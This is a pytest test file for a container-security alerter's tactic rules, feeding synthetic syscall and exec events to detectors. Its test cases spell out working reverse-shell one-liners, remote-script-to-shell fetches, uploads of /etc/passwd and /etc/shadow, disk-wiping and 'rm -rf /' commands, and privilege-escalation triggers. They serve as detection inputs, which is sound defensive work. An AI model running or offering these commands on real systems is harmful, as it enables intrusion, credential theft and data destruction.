"""The tactic rule files (services/alerter/rules/40-* ... 90-*) on synthetic
enriched events: every rule fires on its behaviour (often several variants:
renamed binaries, relative paths, argv inside `sh -c`), each has a benign
near miss that must not fire it, and ordinary container activity fires
nothing at all."""
import pytest

from services.alerter.config import DEFAULT_RULES_DIR, rule_files
from services.alerter.engine import load_rules
from services.alerter.engine.loader import Loader
from services.alerter.state import ExecState
from tests.test_default_rules_synthetic import CTR, ev, execev

O_RDONLY, O_WRONLY, O_RDWR, O_CREAT, O_TRUNC, O_APPEND = 0, 1, 2, 0o100, 0o1000, 0o2000
W_CREATE = O_WRONLY | O_CREAT | O_TRUNC

NEW_FILES = ("40-credential-access.yaml", "45-execution.yaml", "50-persistence.yaml", "60-defense-evasion.yaml",
             "70-discovery-lateral.yaml", "80-exfil-impact.yaml", "90-privilege-escalation.yaml")


# Written but off by default (as in Falco); their cases run with them switched on.
DISABLED_BY_DEFAULT = {"Container Drift Detected (chmod)"}


@pytest.fixture(scope="module")
def rs():
    return load_rules(rule_files((DEFAULT_RULES_DIR,)))


@pytest.fixture(scope="module")
def rs_all():
    """The default ruleset with the disabled-by-default rules switched on."""
    ld = Loader()
    for p in rule_files((DEFAULT_RULES_DIR,)):
        ld.add_path(p)
    ld.add_text("".join(f"- rule: {name}\n  enabled: true\n  override:\n    enabled: replace\n"
                        for name in sorted(DISABLED_BY_DEFAULT)), "<enable-all>")
    return ld.finish()


# podman's default capabilities (CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETGID SETUID SETPCAP
# NET_BIND_SERVICE SYS_CHROOT SETFCAP) and an ordinary volume
CAPS_DEFAULT = sum(1 << b for b in (0, 1, 3, 4, 5, 6, 7, 8, 10, 18, 31))
MNT_DATA = {"source": "/var/lib/containers/storage/volumes/data/_data", "dest": "/data", "rw": True}


def opn(path, flags=O_RDONLY, name="cat", mode=None, ret=3, **kw):
    if mode is None:
        mode = 0o666 if flags & O_CREAT else 0
    return ev("open", name=name, path=path, flags=flags, mode=mode, ret=ret, **kw)


def sh(script, **kw):
    """`sh -c script` as a shell in a container runs it."""
    return execev(["sh", "-c", script], **kw)


def with_(e, **changes):
    """A copy with head fields changed; proc.* keys given as proc_<key>."""
    e = {**e, "proc": dict(e["proc"])}
    for k, v in changes.items():
        if k.startswith("proc_"):
            e["proc"][k[5:]] = v
        else:
            e[k] = v
    return e


def under(e, *ancestors):
    """The event's process with this ancestor chain (parent first)."""
    anc = [{"pid": 4000 + i, "comm": a, "exe": f"/usr/bin/{a}", "args": [a]} for i, a in enumerate(ancestors)]
    return with_(e, proc_pname=ancestors[0], proc_pexe=f"/usr/bin/{ancestors[0]}", proc_pcmdline=ancestors[0],
                 proc_ancestors=anc)


def k8s(e, ns):
    return {**e, "k8s": {"pod": "p-1", "namespace": ns, "labels": {}}}


def conn(daddr, dport, name="wget", family=2, ret=-101, **kw):
    return ev("connect", name=name, family=family, daddr=daddr, dport=dport, saddr=None, sport=None, proto=6,
              ret=ret, **kw)


def setid(kind, name="x", **kw):
    """A set*uid / set*gid event as the probe decodes it (the id fields after the head)."""
    return ev(kind, name=name, **kw)


def unix_conn(path, name="curl", ret=-2, **kw):
    return ev("connect", name=name, family=1, daddr=path, dport=None, saddr=None, sport=None, proto=None, ret=ret,
              **kw)


PY_REVSHELL = ("import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
               "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn(\"/bin/sh\")")
PERL_REVSHELL = ("use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                 "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};")

RUBY_REVSHELL = "f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)"
PHP_REVSHELL = "$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3\");"
PY_B64_EXEC = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"

CASES = [
    # --- 40 credential access
    ("Read ssh information", opn("/root/.ssh/id_rsa")),
    ("Read ssh information", opn("id_ed25519", name="tar")),                      # relative, any program
    ("Read ssh information", opn("/home/bob/.ssh/config", name="python3")),
    ("Read ssh information", opn("/etc/ssh/ssh_host_ed25519_key", host=True)),
    ("Read cloud or cluster credentials file", opn("/root/.aws/credentials")),
    ("Read cloud or cluster credentials file", opn("/home/app/.kube/config", name="kubectl", exe="/tmp/kubectl")),
    ("Read cloud or cluster credentials file", opn("/root/.docker/config.json", name="curl", exe="/usr/bin/curl")),
    ("Find AWS Credentials", execev(["grep", "-ri", "aws_secret_access_key", "/"])),
    ("Find AWS Credentials", sh("find / -path '*/.aws/credentials' 2>/dev/null")),
    ("Search for passwords or secrets", execev(["grep", "-Ri", "password", "/etc"])),
    ("Search for passwords or secrets", sh("rg -i api_key /srv")),
    ("Search for passwords or secrets", execev(["find", "/", "-name", "*.pem"])),
    ("Search for passwords or secrets", execev(["busybox", "find", "/home", "-iname", "*wallet*"])),
    ("K8s service account token read", opn("/var/run/secrets/kubernetes.io/serviceaccount/token")),
    ("K8s service account token read",
     opn("/run/secrets/kubernetes.io/serviceaccount/..2024_01_01/token", name="x", pname="sh")),
    ("K8s TLS certificate theft attempt", opn("/etc/kubernetes/pki/ca.key", host=True)),
    ("K8s TLS certificate theft attempt", ev("rename", name="mv", oldpath="/etc/kubernetes/pki/sa.key",
                                             newpath="/tmp/k", ret=0)),
    ("Read environment variable from /proc files", opn("/proc/1/environ")),
    ("Read environment variable from /proc files", opn("/proc/77/environ", name="python3", host=True)),
    ("Process memory read via /proc", opn("/proc/1/mem", name="dd")),
    ("Read kernel memory", opn("/proc/kcore", name="head")),
    ("Read kernel memory", opn("/dev/mem", name="dd", host=True)),
    ("Credential dumping tool launched", execev(["/tmp/mimipenguin.sh"])),
    ("Credential dumping tool launched", execev(["python3", "laZagne.py", "all"])),
    ("Contact cloud metadata service (alternate address)", conn("169.254.170.2", 80)),
    ("Contact cloud metadata service (alternate address)", conn("::ffff:169.254.170.2", 80, family=10)),
    # --- 45 execution
    ("Reverse shell command line", sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
    ("Reverse shell command line", execev(["python3", "-c", PY_REVSHELL])),
    ("Reverse shell command line", execev(["/tmp/kthreadd", "-c", PY_REVSHELL])),    # renamed interpreter
    ("Reverse shell command line", execev(["perl", "-e", PERL_REVSHELL])),
    ("Reverse shell command line", execev(["ruby", "-rsocket", "-e", RUBY_REVSHELL])),
    ("Reverse shell command line", execev(["php", "-r", PHP_REVSHELL])),
    ("Reverse shell command line", execev(["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh"])),
    ("Reverse shell command line", execev(["/tmp/s", "exec:bash -li,pty,stderr", "tcp:10.0.0.1:4444"])),
    ("Reverse shell command line", sh("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f")),
    ("Reverse shell command line", sh("telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445")),
    ("Reverse shell command line", execev(["awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(1) {}}"])),
    ("Netcat listener in container", execev(["nc", "-lvp", "4444"])),
    ("Netcat listener in container", execev(["socat", "TCP-LISTEN:4444,fork", "STDOUT"])),
    ("Launch Suspicious Network Tool in Container", execev(["tcpdump", "-i", "any"])),
    ("Launch Suspicious Network Tool in Container", execev(["nc", "10.0.0.5", "80"])),
    ("Launch Suspicious Network Tool on Host", execev(["nmap", "10.0.0.0/24"], host=True)),
    ("Run shell untrusted", execev(["sh", "-c", "id"], pname="nginx")),
    ("Run shell untrusted", under(execev(["bash", "-c", "id"]), "php", "php-fpm")),
    ("Web Server Spawned Suspicious Child Process", execev(["curl", "http://10.0.0.1/x"], pname="nginx")),
    ("DB program spawned process", execev(["cat", "/etc/passwd"], pname="mysqld")),
    ("Kubernetes Client Tool Launched in Container", execev(["kubectl", "get", "secrets", "-A"])),
    ("Kubernetes Client Tool Launched in Container", execev(["crictl", "ps"])),
    ("Launch Ingress Remote File Copy Tools in Container", execev(["wget", "http://203.0.113.5/x", "-O", "/tmp/x"])),
    ("Launch Ingress Remote File Copy Tools in Container", execev(["curl", "-so", "/tmp/x", "https://evil.example/x"])),
    ("Remote script piped to shell", sh("curl -fsSL http://203.0.113.5/i.sh | sh")),
    ("Remote script piped to shell", sh("wget -qO- http://203.0.113.5/i | sudo bash")),
    ("Remote script piped to shell", execev(["bash", "-c", "$(curl -fsSL http://203.0.113.5/i.sh)"])),
    ("Remote script piped to shell", with_(execev(["sh"]), proc_pcmdline="sh -c curl -s http://x/y | sh")),
    ("Network Tool Executed During NPM Package Install", under(execev(["nc", "203.0.113.5", "443"]), "sh", "npm")),
    ("System user interactive", under(execev(["id"], host=True, uid=65534), "sh", "sshd")),
    ("System procs network activity", conn("203.0.113.5", 4444, name="bash", host=True)),
    ("System procs network activity", conn("10.0.0.5", 80, name="cat")),
    # --- 50 persistence
    ("Schedule Cron Jobs", opn("/var/spool/cron/crontabs/root", W_CREATE, name="sh")),
    ("Schedule Cron Jobs", ev("rename", name="mv", oldpath="/tmp/job", newpath="/etc/cron.d/job", ret=0)),
    ("Schedule Cron Jobs", execev(["crontab", "/tmp/job"])),
    ("Schedule Cron Jobs", opn("/etc/crontab", O_WRONLY | O_APPEND, name="sh", host=True)),
    ("Modify Shell Configuration File", opn("/root/.bashrc", O_WRONLY | O_APPEND | O_CREAT, name="sh")),
    ("Modify Shell Configuration File", opn(".profile", O_WRONLY | O_APPEND, name="python3")),
    ("Modify Shell Configuration File", ev("rename", name="mv", oldpath="/tmp/x", newpath="/etc/profile.d/x.sh",
                                          ret=0)),
    ("Adding ssh keys to authorized_keys", opn("/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT,
                                               name="sh")),
    ("Adding ssh keys to authorized_keys", opn("authorized_keys", W_CREATE, name="cp", host=True)),
    ("SSH server configuration modified", opn("/etc/ssh/sshd_config", O_WRONLY | O_APPEND, name="sh")),
    ("LD_PRELOAD code injection via ld.so.preload", opn("/etc/ld.so.preload", W_CREATE, name="sh")),
    ("LD_PRELOAD code injection via ld.so.preload", ev("rename", name="mv", oldpath="/tmp/p",
                                                       newpath="/etc/ld.so.preload", ret=0, host=True)),
    ("Dynamic linker configuration modified", opn("/etc/ld.so.conf.d/evil.conf", W_CREATE, name="sh")),
    ("Default dynamic loader modification", opn("/lib64/ld-linux-x86-64.so.2", W_CREATE, name="cp")),
    ("Library preload set on command line", sh("LD_PRELOAD=/tmp/evil.so ls")),
    ("Library preload set on command line", execev(["env", "LD_PRELOAD=./x.so", "id"])),
    ("Library preload set on command line", sh("LD_LIBRARY_PATH=/dev/shm:/usr/lib top")),
    ("Shared library written in a system library directory", opn("/usr/lib/x86_64-linux-gnu/libpam.so.0", W_CREATE,
                                                                 name="cp")),
    ("Shared library written in a system library directory", opn("/lib/libevil.so", W_CREATE, name="curl")),
    ("Systemd service created or modified", opn("/etc/systemd/system/evil.service", W_CREATE, name="sh", host=True)),
    ("Systemd service created or modified", opn("/root/.config/systemd/user/x.timer", W_CREATE, name="sh")),
    ("RC script modification", opn("/etc/rc.local", O_WRONLY | O_APPEND, name="sh")),
    ("RC script modification", execev(["update-rc.d", "evil", "defaults"])),
    ("Modify user accounts database", opn("/etc/passwd", O_WRONLY | O_APPEND, name="sh")),
    ("Modify user accounts database", ev("rename", name="useradd", oldpath="/etc/passwd+", newpath="/etc/passwd",
                                        ret=0, host=True)),
    ("Modify user accounts database", opn("shadow", O_RDWR, name="vi")),
    ("Sudoers modification", opn("/etc/sudoers.d/evil", W_CREATE, name="sh")),
    ("User mgmt binaries", execev(["useradd", "-m", "bob"], host=True, pname="bash")),
    ("Create files below dev", opn("/dev/.hidden", W_CREATE, name="sh")),
    ("Kernel module tool run in container", execev(["insmod", "/tmp/rootkit.ko"])),
    ("Kernel module tool run in container", sh("modprobe -a evil")),
    ("Update Package Repository", opn("/etc/apk/repositories", O_WRONLY | O_APPEND, name="sh")),
    ("Update Package Repository", opn("/etc/apt/sources.list.d/evil.list", W_CREATE, name="tee", host=True)),
    ("Web shell written by a web server", opn("/var/www/html/up/shell.php", W_CREATE, name="php-fpm")),
    # --- 60 defence evasion
    ("Delete or rename shell history", ev("unlink", name="rm", path="/root/.bash_history", ret=0)),
    ("Delete or rename shell history", ev("unlink", name="sh", path=".ash_history", ret=0)),
    ("Delete or rename shell history", ev("rename", name="mv", oldpath="/root/.zsh_history", newpath="/tmp/z", ret=0)),
    ("Delete or rename shell history", ev("symlink", name="ln", target="/dev/null", path="/root/.bash_history", ret=0)),
    ("Delete or rename shell history", opn("/root/.bash_history", W_CREATE, name="bash", mode=0o666)),
    ("Log files deleted", ev("unlink", name="rm", path="/var/log/auth.log", ret=0)),
    ("Log files deleted", ev("unlink", name="sh", path="access.log", ret=0)),
    ("Log files deleted", opn("/var/run/utmp", O_WRONLY | O_TRUNC, name="sh", host=True)),
    ("Modify binary dirs", ev("rename", name="mv", oldpath="/bin/ls", newpath="/bin/ls.bak", ret=0)),
    ("Modify binary dirs", ev("rename", name="mv", oldpath="/tmp/ls", newpath="/usr/bin/ls", ret=0)),
    ("Modify binary dirs", ev("unlink", name="rm", path="/usr/bin/wget", ret=0, host=True)),
    ("Decoding Payload in Container", execev(["base64", "-d"])),
    ("Decoding Payload in Container", execev(["openssl", "enc", "-base64", "-d", "-in", "/tmp/p"])),
    ("Decoded payload piped to a shell", sh("echo ZWNobyBoaQo= | base64 -d | sh")),
    ("Decoded payload piped to a shell", sh("echo 6964 | xxd -r -p | bash")),
    ("Decoded payload piped to a shell", sh("eval \"$(echo ZWNobyBoaQo= | base64 --decode)\"")),
    ("Decoded payload piped to a shell", with_(execev(["sh"]), proc_pcmdline="sh -c echo ZWNo | base64 -d | sh")),
    ("Decoded payload piped to a shell", execev(["python3", "-c", PY_B64_EXEC])),
    ("Modify Container Entrypoint", opn("/proc/self/exe", O_WRONLY, name="x")),
    ("Modify Container Entrypoint", opn("/proc/1/exe", O_RDONLY | 0o10000000, name="x")),
    ("Container Drift Detected (chmod)", ev("chmod", name="chmod", path="/tmp/x", mode=0o755, ret=0)),
    ("Container Drift Detected (chmod)", ev("chmod", name="chmod", path="/tmp/x", mode=0o100744, ret=0)),
    ("Container Drift Detected (open+create)", opn("/tmp/bb", W_CREATE, name="cp", mode=0o100755)),
    ("Hidden executable created", opn("/tmp/.x", W_CREATE, name="cp", mode=0o755)),
    ("Hidden executable created", opn("/dev/shm/.cache/miner", W_CREATE, name="curl", mode=0o700)),
    ("Executable run from a hidden path", execev(["/tmp/.ICE-unix/.x/kswapd0"])),
    ("Executable run from a hidden path", execev(["/var/tmp/. /payload"])),
    ("Process masquerading as kernel thread", with_(execev(["[kworker/0:1]"], filename="/tmp/x"),
                                                    proc_exe="/tmp/x", proc_name="x")),
    ("Security tooling disabled", execev(["setenforce", "0"], host=True)),
    ("Security tooling disabled", execev(["systemctl", "stop", "falco"], host=True)),
    ("Security tooling disabled", sh("auditctl -D")),
    ("Security tooling disabled", execev(["pkill", "-9", "tracee"])),
    ("Timestomping in container", execev(["touch", "-d", "2019-01-01", "/usr/bin/x"])),
    ("Timestomping in container", sh("touch -r /bin/ls /bin/evil")),
    # --- 70 discovery and lateral movement
    ("Network scanner launched", execev(["nmap", "-sS", "10.0.0.0/24"])),
    ("Network scanner launched", execev(["/tmp/x", "-sV", "-Pn", "10.0.0.1"])),
    ("Network scanner launched", execev(["nc", "-zv", "10.0.0.1", "1-1024"])),
    ("Contact K8S API Server From Container", conn("10.96.0.1", 443, name="curl")),
    ("Contact K8S API Server From Container", conn("192.168.1.10", 6443, name="x")),
    ("K8s API access from container command line",
     execev(["curl", "-k", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"])),
    ("K8s API access from container command line",
     sh("curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://x")),
    ("Contact kubelet or etcd from container", conn("10.0.0.5", 10250, name="curl")),
    ("Contact kubelet or etcd from container", conn("10.0.0.5", 2379, name="etcdctl")),
    ("Container escape or discovery toolkit launched", execev(["/tmp/deepce.sh"])),
    ("Container escape or discovery toolkit launched", sh("curl -L https://x/linpeas.sh | sh")),
    ("Container escape or discovery toolkit launched", execev(["./cdk", "evaluate"], filename="/tmp/cdk")),
    ("Search for setuid binaries", execev(["find", "/", "-perm", "-4000", "-type", "f"])),
    ("Search for setuid binaries", sh("find / -perm -u=s 2>/dev/null")),
    ("Search for setuid binaries", execev(["/tmp/f", "/", "-perm", "/6000"])),
    ("Kernel information read in container", opn("/proc/sched_debug")),
    ("Kernel information read in container", opn("/proc/sys/kernel/randomize_va_space")),
    ("Disallowed SSH Connection Non Standard Port", conn("203.0.113.9", 443, name="ssh", exe="/usr/bin/ssh")),
    ("SSH client launched in container", execev(["ssh", "-i", "/tmp/k", "root@10.0.0.5"])),
    # --- 80 exfiltration and impact
    ("Detect crypto miners using the Stratum protocol", execev(["xmrig", "-o", "stratum+tcp://pool.x:3333"])),
    ("Detect crypto miners using the Stratum protocol", execev(["/tmp/kworker", "-o", "stratum+ssl://p.x:443"])),
    ("Known Cryptominer Process Executed", execev(["xmrig"])),
    ("Known Cryptominer Process Executed", execev(["/tmp/xmrig-6.21.0"], filename="/tmp/xmrig-6.21.0")),
    ("Known Cryptominer Process Executed", execev(["kdevtmpfsi"])),
    ("Cryptominer command-line options", execev(["/tmp/x", "--donate-level", "1", "-a", "rx/0"])),
    ("Cryptominer command-line options", execev(["/tmp/x", "--coin=monero", "-u", "4abc"])),
    ("Detect outbound connections to common miner pool ports", conn("203.0.113.7", 3333, name="x")),
    ("Detect outbound connections to common miner pool ports", conn("203.0.113.7", 14444, name="x", host=True)),
    ("Launch Remote File Copy Tools in Container", execev(["rsync", "-a", "/data", "u@10.0.0.1:/x"])),
    ("Launch Remote File Copy Tools in Container", execev(["ftpput", "10.0.0.1", "x", "/etc/passwd"])),
    ("Data upload with command-line HTTP client", execev(["curl", "-F", "f=@/etc/passwd", "http://x"])),
    ("Data upload with command-line HTTP client", execev(["curl", "-T", "/etc/shadow", "ftp://x/"])),
    ("Data upload with command-line HTTP client", execev(["wget", "--post-file=/etc/passwd", "http://x"])),
    ("Data upload with command-line HTTP client", sh("nc 10.0.0.1 80 < /etc/passwd")),
    ("Exfiltrating Artifacts via Kubernetes Control Plane",
     with_(execev(["tar", "cf", "-", "/app/data"], pname="runc"), proc_is_container_entrypoint=True)),
    ("Disk overwritten with dd", execev(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])),
    ("Disk overwritten with dd", sh("dd if=/dev/urandom of=/dev/nvme0n1")),
    ("Recursive deletion of system directories", execev(["rm", "-rf", "--no-preserve-root", "/"])),
    ("Recursive deletion of system directories", sh("rm -rf /etc; echo done")),
    ("Recursive deletion of system directories", execev(["rm", "-fr", "/home/"])),
    ("System shutdown or reboot from container", execev(["reboot"])),
    ("System shutdown or reboot from container", execev(["systemctl", "poweroff"])),
    # --- 90 privilege escalation
    ("Sudo or su run in container", execev(["su", "-c", "id", "nobody"])),
    ("Sudo or su run in container", execev(["sudo", "-i"])),
    ("Sudo Potential Privilege Escalation", with_(execev(["sudoedit", "-s", "\\"]), uid=1000)),
    ("Sudo Potential Privilege Escalation", with_(execev(["sudo", "-s", "AAAA\\"]), uid=1000, container=None)),
    ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
     with_(execev(["pkexec"], filename="/usr/bin/pkexec"), argv=[], proc_args=[], uid=1000)),
    ("Potential Local Privilege Escalation via Environment Variables Misuse",
     execev(["env", "-i", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A", "/usr/bin/su", "--help"])),
    # set*id events: the requested ids as new_* (evt.arg.uid etc.), the head's uid the caller's before the call
    ("Non sudo setuid", setid("setuid", syscall="setuid", new_uid=0, new_euid=None, new_suid=None, ret=-1, uid=1000)),
    ("Non sudo setuid", setid("setuid", syscall="setreuid", new_uid=None, new_euid=0, new_suid=None, ret=-1, host=True,
                              uid=65534)),
    ("Non sudo setuid", setid("setuid", syscall="setuid", new_uid=0, new_euid=None, new_suid=None, ret=0, uid=1000)),
    ("Non sudo setuid", setid("setgid", syscall="setgid", new_gid=0, new_egid=None, new_sgid=None, ret=-1, uid=1000)),
    ("Non sudo setuid", setid("setgid", syscall="setregid", new_gid=None, new_egid=0, new_sgid=None, ret=0, uid=1000)),
    ("Namespace or chroot tool launched in container", execev(["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"])),
    ("Launch Privileged Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                          container={**CTR, "privileged": True})),
    ("Mkdir binary dirs", ev("mkdir", name="mkdir", path="/usr/local/bin/.x", mode=0o755, ret=0)),
    ("Writable and executable memory in container", ev("mprotect", name="loader", exe="/tmp/loader", syscall="mmap",
                                                        addr=0, len=4096, prot=7, flags=0x22, fd=None,
                                                        ret=0x7f0000000000)),
    ("Writable and executable memory in container", ev("mprotect", name="java", exe="/tmp/java", syscall="mprotect",
                                                        addr=0x7f0000000000, len=4096, prot=7, ret=0)),  # renamed
    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
     ev("userfaultfd", name="exploit", flags=0x80001, ret=3, uid=1000)),
    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
     ev("userfaultfd", name="exploit", flags=1, ret=4, uid=65534, host=True)),
    ("Mkdir binary dirs", ev("mkdir", name="python3", path="/bin/tools", mode=0o755, ret=0, host=True)),
    ("Hidden directory created in a temporary directory", ev("mkdir", name="sh", path="/tmp/.ssh-agent", mode=0o700,
                                                               ret=0)),
    ("Hidden directory created in a temporary directory", ev("mkdir", name="xmrig", path="/dev/shm/. ", mode=0o700,
                                                               ret=0)),
    ("Launch Container Sharing Host Namespaces", with_(execev(["nginx"]), proc_is_container_entrypoint=True,
                                                       container={**CTR, "host_pid": True})),
    ("Launch Container Sharing Host Namespaces", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                                       container={**CTR, "host_network": True, "host_pid": False})),
    ("Launch Excessively Capable Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                                   cap_permitted=CAPS_DEFAULT | 1 << 21)),  # + SYS_ADMIN
    ("Launch Excessively Capable Container", with_(execev(["app"]), proc_is_container_entrypoint=True,
                                                   cap_permitted=1 << 19, container={**CTR, "privileged": None})),
    ("Launch Excessively Capable Container", with_(execev(["app"]), proc_is_container_entrypoint=True, uid=1000,
                                                   cap_permitted=0, cap_bounding=CAPS_DEFAULT | 1 << 21)),  # non-root
    ("Launch Sensitive Mount Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                               container={**CTR, "mounts": [MNT_DATA, {"source": "/", "dest": "/host",
                                                                                       "rw": False}]})),
    ("Launch Sensitive Mount Container", with_(execev(["agent"]), proc_is_container_entrypoint=True,
                                               container={**CTR, "mounts": [{"source": "/run/containerd/containerd.sock",
                                                                             "dest": "/c.sock", "rw": True}]})),
    ("Launch Sensitive Mount Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                               container={**CTR, "mounts": [{"source": "/root/.ssh", "dest": "/k",
                                                                             "rw": False}]})),
    ("Launch Sensitive Mount Container", with_(execev(["sh"]), proc_is_container_entrypoint=True,
                                               container={**CTR, "mounts": [{"source": "/run/containerd", "dest": "/c",
                                                                             "rw": True}]})),  # a runtime's state
    ("io_uring ring created in container", ev("iouring", name="implant", op="setup", opcode=None, fd=3,
                                               sq_entries=4, flags=0, sq_thread=False, ret=0)),
    ("File or network operation through io_uring in container",
     ev("iouring", name="implant", op="openat", opcode=18, fd=None, sq_entries=None, flags=0, sq_thread=False,
        ret=0)),
    ("File or network operation through io_uring in container",
     ev("iouring", name="x", op="connect", opcode=16, fd=None, sq_entries=None, flags=0, sq_thread=True, ret=0)),
    ("Directory traversal monitored file read", opn("/etc/passwd", name="python3", pname="gunicorn",
                                                     raw_path="static/../../../etc/passwd")),
    ("Directory traversal monitored file read", opn("/root/.ssh/id_rsa", name="node", pname="node",
                                                     raw_path="/app/public/../../root/.ssh/id_rsa", ret=-13)),
    ("Directory traversal monitored file read", opn("/home/app/.ssh/id_ed25519", name="java", pname="java",
                                                     raw_path="../../../home/app/.ssh/id_ed25519")),
    ("Namespace or chroot tool launched in container", execev(["chroot", "/host", "bash"])),
    ("Namespace or chroot tool launched in container", sh("unshare -rm sh")),
    ("Privileged Container Device Access", opn("/dev/sda", O_RDONLY, name="dd")),
    ("Privileged Container Device Access", opn("/dev/nvme0n1p1", O_WRONLY, name="sh")),
    ("Host device mounted in container", ev("mount", name="mount", source="/dev/sda1", target="/mnt", fstype="ext4",
                                            flags=0, ret=0)),
    ("Container Access to Host Sensitive Paths", opn("/host/etc/shadow")),
    ("Container Access to Host Sensitive Paths", opn("/rootfs/root/.bashrc", O_WRONLY | O_APPEND, name="sh")),
    ("Debugfs Launched in Container", execev(["debugfs", "-w", "/dev/sda1"])),
    ("Mount command launched in container", execev(["mount", "-t", "ext4", "/dev/sda1", "/mnt"])),
    ("Core pattern modification", opn("/proc/sys/kernel/core_pattern", W_CREATE, name="sh", ret=-30)),
    ("Core pattern modification", opn("core_pattern", O_WRONLY, name="sysctl")),
    ("Kernel usermode helper modification", opn("/sys/kernel/uevent_helper", O_WRONLY, name="sh")),
    ("Kernel usermode helper modification", opn("/proc/sys/fs/binfmt_misc/register", O_WRONLY, name="sh")),
    ("Kernel usermode helper modification", opn("/proc/sys/kernel/modprobe", O_WRONLY, name="sh", host=True)),
    ("Write to /proc/sys in container", opn("/proc/sys/net/ipv4/ip_forward", W_CREATE, name="sh")),
    ("System request key configuration modification", opn("/proc/sysrq-trigger", O_WRONLY, name="sh")),
    ("System request key configuration modification", opn("/proc/sys/kernel/sysrq", O_WRONLY, name="sh", host=True)),
    ("Cgroup notify_on_release modification", opn("/sys/fs/cgroup/rdma/x/notify_on_release", O_WRONLY, name="sh")),
    ("Container runtime socket access from container", unix_conn("/var/run/docker.sock")),
    ("Container runtime socket access from container", unix_conn("/run/containerd/containerd.sock", name="ctr")),
    ("Container runtime socket access from container",
     execev(["curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"])),
    ("Container runtime socket access from container", opn("/run/podman/podman.sock", O_RDWR, name="sh")),
    ("PTRACE code injection", ev("ptrace", name="x", request=5, target_pid=77, ret=0)),
    ("PTRACE code injection", ev("ptrace", name="inject", request=4, target_pid=1, ret=-1, host=True)),
    ("Code injection via /proc/pid/mem", opn("/proc/1/mem", O_RDWR, name="x")),
    ("Code injection via /proc/pid/mem", opn("/proc/self/mem", O_WRONLY, name="x", host=True)),
    ("BPF Program Not Profiled", ev("bpf", name="python3", exe="/usr/bin/python3", cmd=5, prog_type=1, ret=3,
                                    host=True)),
    ("BPF Program Not Profiled", ev("bpf", name="bpftool", exe="/tmp/bpftool", cmd=5, prog_type=1, ret=3,
                                    host=True)),
    # --- probe events of issue 9: exec environment, tty, chown, truncate, process_vm_*, umount
    ("LD_PRELOAD in exec environment", with_(execev(["cat", "/dev/null"]), proc_env={"LD_PRELOAD": "/tmp/evil.so"})),
    ("LD_PRELOAD in exec environment",
     with_(execev(["sshd"], host=True), proc_env={"LD_PRELOAD": "/usr/lib/libfoo.so:/dev/shm/.x.so"})),
    ("LD_PRELOAD in exec environment", with_(execev(["id"]), proc_env={"LD_AUDIT": "/tmp/a.so"})),
    ("LD_PRELOAD in exec environment",
     with_(execev(["id"]), proc_env={"LD_PRELOAD": "/usr/lib/../../tmp/x.so"})),
    ("Library search path in a writable directory", with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": "/tmp"})),
    ("Library search path in a writable directory",
     with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": "/usr/lib:/dev/shm/l"})),
    ("Library search path in a writable directory", with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": "lib"})),
    ("Library search path in a writable directory",
     with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": "/home/u/.cache/l"})),
    ("Library search path in a writable directory", with_(execev(["ls"]), proc_env={"LD_LIBRARY_PATH": "/usr/lib:"})),
    ("Shell history disabled in the environment", with_(execev(["bash"]), proc_env={"HISTFILE": "/dev/null"})),
    ("Shell history disabled in the environment", with_(execev(["sh"]), proc_env={"HISTSIZE": "0"})),
    ("Program run with disallowed http proxy env",
     with_(execev(["wget", "http://x/"]), proc_env={"http_proxy": "http://203.0.113.9:3128"})),
    ("Program run with disallowed http proxy env",
     with_(execev(["curl", "https://x/"], host=True), proc_env={"HTTPS_PROXY": "http://evil:8080"})),
    ("Potential Local Privilege Escalation via Environment Variables Misuse",
     with_(execev(["/usr/bin/su", "--help"]), proc_env={"GLIBC_TUNABLES": "glibc.malloc.mxfast=glibc.malloc.mxfast=A"})),
    ("Basic Interactive Reconnaissance", with_(execev(["whoami"]), proc_tty=34816)),
    ("Basic Interactive Reconnaissance", with_(execev(["uname", "-a"], pname="bash"), proc_tty=34817)),
    ("Sensitive file ownership changed",
     ev("chown", name="chown", path="/etc/shadow", owner_uid=1000, owner_gid=None, ret=0)),
    ("Sensitive file ownership changed",
     ev("chown", name="python3", path="/etc/sudoers.d/app", owner_uid=1000, owner_gid=None, ret=0, host=True)),
    ("Sensitive file ownership changed",
     ev("chown", name="sh", path="/root/.ssh/authorized_keys", owner_uid=65534, owner_gid=65534, ret=-1,
        path_from_fd=True)),
    ("Delete or rename shell history", ev("truncate", name="truncate", path="/root/.bash_history", length=0, ret=0)),
